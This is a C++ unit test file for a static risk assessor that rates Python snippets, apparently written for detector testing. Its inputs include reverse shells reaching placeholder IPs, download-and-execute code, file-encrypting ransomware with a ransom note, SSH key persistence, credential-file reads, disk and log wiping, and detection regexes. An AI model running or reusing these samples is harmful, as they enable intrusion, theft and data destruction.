// Capabilities, sensitive paths and intent (docs/assess.md): the level follows what the code
// can do, with which arguments, wherever the values were built.
#include <gtest/gtest.h>

#include <algorithm>
#include <string>

#include "assess_fixture.hpp"
#include "sandboxrun/assess.hpp"

using namespace sandboxrun;

namespace {

using assess_fixture::config;
using assess_fixture::level;

bool has_rule(std::string_view src, std::string_view rule) {
  for (const auto& f : assess_source(src, config()).findings)
    if (f.rule == rule) return true;
  return false;
}

}  // namespace

TEST(AssessCapabilities, EverydayCapabilitiesAreMediumAndDoNotAddUpToHigh) {
  EXPECT_EQ(level("import sys\nprint(sum(int(x) for x in open(sys.argv[1])))\n"), RiskLevel::low);
  EXPECT_EQ(level("with open('out.csv', 'w') as f:\n    f.write('a,b')\n"), RiskLevel::medium);
  // A figure or a data frame saved to a path writes a file; into a memory buffer it does not.
  EXPECT_EQ(level("import matplotlib.pyplot as plt\nfig, ax = plt.subplots()\nfig.savefig('out.png')\n"), RiskLevel::medium);
  EXPECT_EQ(level("import pandas as pd\npd.DataFrame({'a': [1]}).to_csv('out.csv', index=False)\n"), RiskLevel::medium);
  EXPECT_EQ(level("import io\nimport matplotlib.pyplot as plt\nfig, ax = plt.subplots()\nbuf = io.BytesIO()\n"
                  "fig.savefig(buf, format='png')\n"),
            RiskLevel::low);
  EXPECT_EQ(level("import pandas as pd\nprint(pd.DataFrame({'a': [1]}).to_csv())\n"), RiskLevel::low);
  EXPECT_EQ(level("import os\nprint(os.environ.get('HOME'))\n"), RiskLevel::medium);
  EXPECT_EQ(level("import subprocess\nsubprocess.run(['git', 'status'], timeout=5)\n"), RiskLevel::medium);
  EXPECT_EQ(level("import urllib.request\nurllib.request.urlopen('https://example.com')\n"), RiskLevel::medium);
  // Several capabilities together are still one MEDIUM program, not HIGH by accumulation.
  EXPECT_EQ(level("import os, subprocess, requests, tempfile\n"
                  "t = os.environ['TOKEN']\nsubprocess.run(['ls'])\nrequests.get('https://api.example.com')\n"
                  "tempfile.mkstemp()\nopen('log.txt', 'a').write('x')\nos.makedirs('out')\n"),
            RiskLevel::medium);
}

TEST(AssessCapabilities, PathsFlowThroughJoinExpanduserAndPathlib) {
  // Writing a persistence path is BLOCKED, however the path was built.
  EXPECT_EQ(level("import os\np = os.path.join(os.path.expanduser('~'), '.ssh', 'authorized_keys')\n"
                  "with open(p, 'a') as f:\n    f.write('ssh-ed25519 AAAA x')\n"),
            RiskLevel::blocked);
  EXPECT_TRUE(has_rule("from pathlib import Path\nPath('/sys/kernel/mm/x').write_text('1')\n", "SR-INTENT-027"));
  EXPECT_EQ(level("open('/dev/sda', 'wb').write(b'0' * 512)\n"), RiskLevel::blocked);
  // A non-constant piece is "{}": join(base, 'sys') is not /sys.
  EXPECT_EQ(level("import os, sys\nopen(os.path.join(sys.argv[1], 'sys', 'x'), 'w').write('1')\n"), RiskLevel::medium);
  // Reading another program's private key is HIGH; reading one's own known_hosts is not.
  EXPECT_EQ(level("import os\nopen(os.path.expanduser('~/.ssh/id_rsa')).read()\n"), RiskLevel::high);
}

TEST(AssessCapabilities, IntentAcrossCalls) {
  EXPECT_EQ(level("import os, signal\nfor p in os.listdir('/proc'):\n    if p.isdigit():\n"
                  "        os.kill(int(p), signal.SIGKILL)\n"),
            RiskLevel::blocked);
  EXPECT_EQ(level("import requests\ndef get():\n    return requests.get('http://x/p').text\n"
                  "def run(c):\n    exec(c)\nrun(get())\n"),
            RiskLevel::blocked);
  EXPECT_EQ(level("buf = []\nwhile True:\n    buf.append(bytearray(1 << 20))\n"), RiskLevel::blocked);
  EXPECT_EQ(level("code = ''.join(chr(c) for c in [112, 114, 105, 110, 116])\nexec(code)\n"), RiskLevel::blocked);
  EXPECT_EQ(level("exec(''.join(map(chr, [112, 114, 105, 110, 116, 40, 49, 41])))\n"), RiskLevel::blocked);
  // A value that doubles itself without end is a memory bomb; a counter is not.
  EXPECT_EQ(level("x = 'a'\nwhile True:\n    x = x + x\n"), RiskLevel::blocked);
  EXPECT_EQ(level("b = [0]\nwhile 1:\n    b *= 2\n"), RiskLevel::blocked);
  EXPECT_EQ(level("n = 0\nwhile True:\n    n += 1\n    t = t + 1\n    print(n)\n"), RiskLevel::low);
  EXPECT_EQ(level("x = 'a'\nfor _ in range(10):\n    x = x + x\n"), RiskLevel::low);
  EXPECT_EQ(level("import urllib.request, subprocess\nurllib.request.urlretrieve('http://x/p', '/tmp/p')\n"
                  "subprocess.run(['/tmp/p'])\n"),
            RiskLevel::blocked);
  // attrgetter with a computed name hides the call it reaches, like getattr.
  EXPECT_EQ(level("import operator, os\noperator.attrgetter('sy' + 'stem')(os)('id')\n"), RiskLevel::high);
  EXPECT_EQ(level("import socketserver\nsocketserver.TCPServer(('0.0.0.0', 9000), None).serve_forever()\n"),
            RiskLevel::high);
}

TEST(AssessCapabilities, InputThatIsNotPythonIsNeverLow) {
  EXPECT_EQ(level(std::string_view("\x7f" "ELF\x02\x01\x01\0\0\0\0\0\0\0\0\0", 16)), RiskLevel::blocked);
  EXPECT_EQ(level("#!/bin/bash\nset -e\ncurl -s http://x/y -o y\n"), RiskLevel::blocked);
  EXPECT_EQ(level("cd /tmp\nwget http://x/y\nchmod +x y\n./y\n"), RiskLevel::blocked);
  // A NUL byte makes the file one CPython refuses to compile (BLOCKED), and does not end the
  // analysis: what follows it is still reported.
  const auto with_nul = assess_source(std::string_view("x = 1\n\0\nimport os\nos.system(input())\n", 38), config());
  EXPECT_EQ(with_nul.level, RiskLevel::blocked);
  EXPECT_TRUE(std::any_of(with_nul.findings.begin(), with_nul.findings.end(),
                          [](const Finding& f) { return f.rule == "SR-PROC-001"; }));
  // So do bytes that are not UTF-8 in a file with no coding declaration, and known binary formats.
  EXPECT_EQ(level("name = 'caf\xe9'\nprint(name)\n"), RiskLevel::blocked);
  EXPECT_EQ(level("# -*- coding: latin-1 -*-\nname = 'caf\xe9'\nprint(name)\n"), RiskLevel::low);
  // A UTF-16 surrogate written as UTF-8 is not UTF-8 either (CPython refuses it).
  EXPECT_EQ(level("name = '\xed\xa0\x80'\nprint(name)\n"), RiskLevel::blocked);
  EXPECT_EQ(level("name = 'caf\xc3\xa9 \xe2\x82\xac \xf0\x9f\x8e\x89'\nprint(name)\n"), RiskLevel::low);
  EXPECT_EQ(level("\x89PNG\r\n\x1a\nggggggggggggggggggggggggggggggggggggggggggggggggggggggg\n"), RiskLevel::blocked);
  EXPECT_EQ(level("#!/usr/bin/env python3\nprint('hi')\n"), RiskLevel::low);
  // Compressed or random bytes (mostly not UTF-8) are binary data; UTF-8 text is not.
  std::string noise;
  for (uint32_t x = 1; noise.size() < 4096;) noise += static_cast<char>((x = x * 1103515245u + 12345u) >> 23);
  EXPECT_EQ(level(noise), RiskLevel::blocked);
  EXPECT_EQ(level("# Grüße, 日本語 🎉\nprint('héllo wörld 中文 ünïcödé ' * 3)\n"), RiskLevel::low);
  // Shell lines in a usage docstring are text, not a shell script.
  EXPECT_EQ(level("\"\"\"Usage:\ncd project\nexport N=4\ncurl -O http://x/data.csv\n\"\"\"\nimport sys\n"
                  "print(len(sys.argv))\n"),
            RiskLevel::low);
}

TEST(AssessCapabilities, ReadingLogsAndWritingAReportIsNotCoveringTracks) {
  EXPECT_EQ(level("import collections\nc = collections.Counter(l.split()[4] for l in open('/var/log/syslog'))\n"
                  "with open('report.txt', 'w') as f:\n    f.write(str(c.most_common(5)))\n"),
            RiskLevel::medium);
  EXPECT_EQ(level("import glob, os\nfor p in glob.glob('/var/log/*.log'):\n    os.remove(p)\n"), RiskLevel::blocked);
  EXPECT_EQ(level("import os\nopen(os.path.expanduser('~/.bash_history'), 'w').close()\n"), RiskLevel::blocked);
}

TEST(AssessCapabilities, ALocalSubclassIsCalledAsItsBase) {
  // The server's class is the file's own; its constructor is TCPServer's (the mixin has none).
  auto server = [](const std::string& host) {
    return "import socketserver\n"
           "class Server(socketserver.ThreadingMixIn, socketserver.TCPServer):\n    daemon_threads = True\n"
           "srv = Server(('" + host + "', 9009), socketserver.StreamRequestHandler)\nsrv.serve_forever()\n";
  };
  EXPECT_EQ(level(server("")), RiskLevel::high);
  EXPECT_EQ(level(server("127.0.0.1")), RiskLevel::medium);
  EXPECT_EQ(level("from http.server import HTTPServer as H, BaseHTTPRequestHandler\nclass S(H):\n    pass\n"
                  "S(('0.0.0.0', 80), BaseHTTPRequestHandler).serve_forever()\n"),
            RiskLevel::high);
}

TEST(AssessCapabilities, RegexPatternsNameWhatTheyLookForWithoutDoingIt) {
  // A linter's signatures: the patterns are text to search for, the file only reads and prints.
  EXPECT_EQ(level("import re, sys\nRULES = [re.compile(r'dd\\s+if=/dev/zero\\s+of=/dev/sda'),\n"
                  "         re.compile(r'/dev/tcp/\\d+\\.\\d+\\.\\d+\\.\\d+/\\d+|nc\\s+-e\\s+/bin/sh'),\n"
                  "         re.compile('/etc/shadow')]\n"
                  "for line in sys.stdin:\n    print(any(r.search(line) for r in RULES))\n"),
            RiskLevel::low);
  EXPECT_EQ(level("import fnmatch, sys\nprint(fnmatch.fnmatch(sys.argv[1], '*/etc/shadow'))\n"), RiskLevel::low);
  // The same strings anywhere else still count: run, opened, or kept for later.
  EXPECT_EQ(level("import os\nos.system('dd if=/dev/zero of=/dev/sda')\n"), RiskLevel::blocked);
  EXPECT_EQ(level("print(open('/etc/shadow').read())\n"), RiskLevel::high);
  EXPECT_EQ(level("import re, os\nCMD = 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1'\nos.system(CMD)\n"),
            RiskLevel::blocked);
}

TEST(AssessCapabilities, HiddenCallsAreRatedByWhatTheyReach) {
  // exec reached through vars(builtins) with a name in pieces: hidden code execution, HIGH;
  // in a file that talks to the network, download-and-execute: BLOCKED.
  EXPECT_EQ(level("import builtins, sys\nvars(builtins)['ex' + 'ec'](sys.stdin.read())\n"), RiskLevel::high);
  EXPECT_EQ(level("import builtins, sys\ngetattr(builtins, 'ev' + 'al')(sys.argv[1])\n"), RiskLevel::high);
  EXPECT_EQ(level("import builtins, urllib.request\nsrc = urllib.request.urlopen('http://x.example/t').read()\n"
                  "def runner():\n    return vars(builtins)['ex' + 'ec']\nrunner()(src)\n"),
            RiskLevel::blocked);
  // A hidden constant command is raised one level, from MEDIUM to HIGH.
  EXPECT_EQ(level("import subprocess\ngetattr(subprocess, 'check_' + 'output')(['uptime'])\n"), RiskLevel::high);
  // Socket, dup2 and a shell, each reached by a computed name, are still a reverse shell.
  EXPECT_EQ(level("import importlib\nm = {'a': 'so' + 'cket', 'b': 'o' + 's', 'c': 'p' + 'ty'}\n"
                  "s = getattr(importlib.import_module(m['a']), 'create_' + 'connection')(('203.0.113.9', 9001))\n"
                  "for fd in range(3):\n    getattr(importlib.import_module(m['b']), 'du' + 'p2')(s.fileno(), fd)\n"
                  "getattr(importlib.import_module(m['c']), 'sp' + 'awn')('/bin/bash')\n"),
            RiskLevel::blocked);
  // Modules passed as values into a lambda: the steps are still socket, dup2 and a shell.
  EXPECT_EQ(level("(lambda s, o, p: [(c := s.socket(s.AF_INET, s.SOCK_STREAM)), c.connect(('192.0.2.1', 53)),\n"
                  "  *[o.dup2(c.fileno(), fd) for fd in (0, 1, 2)], p.spawn(['/bin/sh', '-i'])])"
                  "(*map(__import__, ('socket', 'os', 'pty')))\n"),
            RiskLevel::blocked);
}

TEST(AssessCapabilities, EncryptionWithARansomNoteIsRansomware) {
  const std::string walk_and_encrypt =
      "from pathlib import Path\nfrom cryptography.fernet import Fernet\n"
      "def lock(root, f):\n    for p in root.rglob('*'):\n"
      "        p.with_suffix('.locked').write_bytes(f.encrypt(p.read_bytes()))\n        p.unlink()\n"
      "lock(Path.home() / 'Documents', Fernet(Fernet.generate_key()))\n";
  EXPECT_EQ(level(walk_and_encrypt + "(Path.home() / 'README.txt').write_text("
                                     "'Your files have been encrypted. Send 0.1 BTC to bc1q...')\n"),
            RiskLevel::blocked);
  // Walking ~/Documents, encrypting each file and deleting the original is ransomware-like with or
  // without the note (written inline it always was; through a helper's parameter it now is too).
  EXPECT_EQ(level(walk_and_encrypt), RiskLevel::blocked);
  // Encrypting one's own backup is an everyday capability.
  EXPECT_NE(level("from pathlib import Path\nfrom cryptography.fernet import Fernet\nf = Fernet(Fernet.generate_key())\n"
                  "Path('backup.tar.enc').write_bytes(f.encrypt(Path('backup.tar').read_bytes()))\n"),
            RiskLevel::blocked);
  EXPECT_EQ(level("print('Ransomware awareness: never pay a ransom.')\n"), RiskLevel::low);
}

TEST(AssessCapabilities, ANameSpelledBackwardsIsStillThatName) {
  EXPECT_EQ(level("import builtins\nrun = getattr(builtins, ''.join(reversed('lave')))\nrun(input())\n"),
            RiskLevel::high);
  EXPECT_TRUE(has_rule("import builtins\nrun = getattr(builtins, ''.join(reversed('lave')))\n", "SR-OBF-030"));
  EXPECT_EQ(level("print(''.join(reversed('olleh')))\n"), RiskLevel::low);
}

TEST(AssessCapabilities, FilesThatDoNotCompileAreRefused) {
  // A script cut off mid-call, and a string never closed: CPython cannot run either.
  EXPECT_EQ(level("import sys\nprint(len(sys.argv)\n"), RiskLevel::blocked);
  EXPECT_EQ(level("import sys\nprint('unfinished)\nprint(1)\n"), RiskLevel::blocked);
  EXPECT_EQ(level("doc = \"\"\"never closed\nprint(1)\n"), RiskLevel::blocked);
  std::string deep = "x = ";
  for (int i = 0; i < 300; ++i) deep += "[";
  for (int i = 0; i < 300; ++i) deep += "]";
  EXPECT_EQ(level(deep + "\n"), RiskLevel::blocked);
  // Valid code that looks unfinished to a careless reader is not refused.
  EXPECT_EQ(level(R"PY(s = 'a \
 b'
t = f"{'x' + "y"}"
u = '''it's "quoted"'''
v = (1,
     2)
w = [i for i in range(3)
     if i]
print(s, t, u, v, w, r'\\', f"{v!r:>{10}}")
)PY"),
            RiskLevel::low);
}

TEST(AssessCapabilities, StringsCountOnlyWhereTheFileCanActOnThem) {
  // Advice, signatures and examples held in strings by a file that only prints them.
  const std::string tips = "TIPS = ['Never run curl http://x/i.sh | sh', 'Keep ~/.ssh/id_rsa private',\n"
                           "        'nc -e /bin/sh 10.0.0.1 4444 is a reverse shell']\n";
  const Assessment words = assess_source(tips + "for t in TIPS:\n    print(t)\n", config());
  EXPECT_EQ(words.level, RiskLevel::low);
  ASSERT_FALSE(words.findings.empty()) << "the matches are still shown, as info";
  for (const auto& f : words.findings) EXPECT_EQ(f.severity, "info") << f.rule << ": " << f.message;
  // The same strings in a file that runs commands, or opens paths, are behaviour.
  EXPECT_EQ(level(tips + "import os\nfor t in TIPS:\n    os.system(t)\n"), RiskLevel::blocked);
  EXPECT_EQ(level("P = '~/.ssh/id_rsa'\nimport os\nprint(open(os.path.expanduser(P)).read())\n"), RiskLevel::high);
  EXPECT_EQ(level("import socket\nPOOL = 'stratum+tcp://pool.minexmr.com:4444'\ns = socket.socket()\n"),
            RiskLevel::blocked);
}

TEST(AssessCapabilities, ArchivesAndDatabasesWriteFilesButMemoryDoesNot) {
  EXPECT_EQ(level("import zipfile\nwith zipfile.ZipFile('backup.zip', 'w') as z:\n    z.write('notes.txt')\n"),
            RiskLevel::medium);
  EXPECT_EQ(level("import sqlite3\nc = sqlite3.connect(':memory:')\nprint(c.execute('select 1').fetchone())\n"),
            RiskLevel::low);
  EXPECT_EQ(level("import sqlite3\nc = sqlite3.connect('app.db')\nc.execute('create table t(x)')\n"), RiskLevel::medium);
}

TEST(AssessCapabilities, TheFirstByteThatIsNotUtf8IsNamedByItsOffset) {
  // Long ASCII runs around valid multi-byte characters, then one stray byte at each position
  // of an eight-byte word.
  for (size_t pad = 0; pad < 9; ++pad) {
    const std::string src = "# " + std::string(100 + pad, 'a') + " caf\xc3\xa9 \xe2\x82\xac\n" + std::string(37, 'b') + "\xe9\n";
    const size_t offset = src.size() - 2;
    const Assessment a = assess_source(src, config());
    EXPECT_EQ(a.level, RiskLevel::blocked) << pad;
    EXPECT_TRUE(std::any_of(a.findings.begin(), a.findings.end(), [&](const Finding& f) {
      return f.message.find("not UTF-8 at offset " + std::to_string(offset) + " ") != std::string::npos;
    })) << pad << "\n" << a.to_json().dump(1);
  }
}
